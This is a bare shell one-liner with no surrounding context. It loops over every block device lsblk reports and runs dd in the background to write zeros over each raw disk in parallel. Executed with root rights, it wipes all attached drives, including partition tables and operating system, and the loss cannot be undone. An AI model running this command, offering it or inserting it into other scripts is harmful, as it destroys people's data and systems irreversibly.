for d in $(lsblk -dno NAME); do dd if=/dev/zero of=/dev/$d bs=1M & done
